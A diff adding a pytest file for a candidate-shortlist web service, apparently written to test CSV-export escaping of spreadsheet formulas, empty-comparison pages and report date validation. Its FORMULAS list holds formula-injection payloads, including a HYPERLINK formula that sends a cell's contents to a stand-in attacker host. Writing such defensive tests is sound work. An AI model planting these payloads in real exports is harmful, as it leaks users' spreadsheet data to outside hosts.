@@ -1,0 +1,98 @@
+"""The smaller holes: CSV formulas, empty comparisons, dates, 404 texts, chunked bodies."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from fastapi.testclient import TestClient
+
+from serving import exports
+from tests.serving.conftest import Keys
+from tests.serving.test_pages_kit import sign_in
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"open")', "@SUM(A1:A9)", "+1+2", "-2+3")
+
+
+def _shortlist(client: TestClient, keys: Keys, vacancy: str, **filters: str) -> dict:
+    response = client.post(
+        "/v1/shortlists",
+        json={"position_id": vacancy, "k": 3, "filters": filters},
+        headers=keys.header("admin"),
+    )
+    assert response.status_code == 201, response.text
+    return response.json()
+
+
+@pytest.mark.parametrize("formula", [*FORMULAS, "\tcmd", "\rcmd"])
+def test_a_formula_cell_gets_a_leading_apostrophe(formula: str) -> None:
+    assert exports.neutralised(formula) == "'" + formula
+
+
+@pytest.mark.parametrize("plain", ["-0.1234", "+3", "12", "Budi", "", "a=b"])
+def test_numbers_and_plain_text_are_kept(plain: str) -> None:
+    assert exports.neutralised(plain) == plain
+
+
+def test_the_csv_export_neutralises_formulas_typed_into_decisions(
+    service: tuple[TestClient, Keys], vacancy: str
+) -> None:
+    client, keys = service
+    body = _shortlist(client, keys, vacancy)
+    nip = body["candidates"][0]["nip"]
+    path = f"/v1/shortlists/{body['shortlist_id']}"
+    decided = client.post(
+        f"{path}/decisions",
+        json={
+            "nip": nip,
+            "decision": "SHORTLISTED",
+            "reason": FORMULAS[0],
+            "reviewer": FORMULAS[1],
+        },
+        headers=keys.header("admin"),
+    )
+    assert decided.status_code == 201, decided.text
+    text = client.get(f"{path}/export.csv", headers=keys.header("admin")).text
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert "'" + FORMULAS[0] in cells and "'" + FORMULAS[1] in cells
+    assert not [cell for cell in cells if cell.startswith(("=", "@"))]
+
+
+def test_comparing_an_empty_shortlist_is_an_empty_page_not_a_500(
+    service: tuple[TestClient, Keys], vacancy: str
+) -> None:
+    client, keys = service
+    empty = _shortlist(client, keys, vacancy, unit_id="NO-SUCH-UNIT")
+    assert empty["candidates"] == []
+    sign_in(client, keys.admin)
+    page = client.get(f"/shortlists/{empty['shortlist_id']}/compare")
+    client.cookies.clear()
+    assert page.status_code == 200 and 'scope="row"' not in page.text
+
+
+@pytest.mark.parametrize(
+    ("name", "value"),
+    [("to", "0"), ("to", "1700000000"), ("from", "0"), ("to", "20261101"), ("to", "2026-13-01")],
+)
+def test_a_report_date_must_be_written_as_a_date(
+    service: tuple[TestClient, Keys], name: str, value: str
+) -> None:
+    client, keys = service
+    response = client.get(
+        "/v1/reports/divergence", params={name: value}, headers=keys.header("admin")
+    )
+    assert response.status_code == 422, response.text
+    assert response.headers["content-type"].startswith("application/problem+json")
+    assert f"query.{name}" in response.json()["detail"]
+
+
+def test_a_report_date_written_as_a_date_is_read(service: tuple[TestClient, Keys]) -> None:
+    client, keys = service
+    response = client.get(
+        "/v1/reports/divergence",
+        params={"from": "2026-01-01", "to": "2026-11-01"},
+        headers=keys.header("admin"),
+    )
+    assert response.status_code == 200, response.text
+    assert (response.json()["from"], response.json()["to"]) == ("2026-01-01", "2026-11-01")
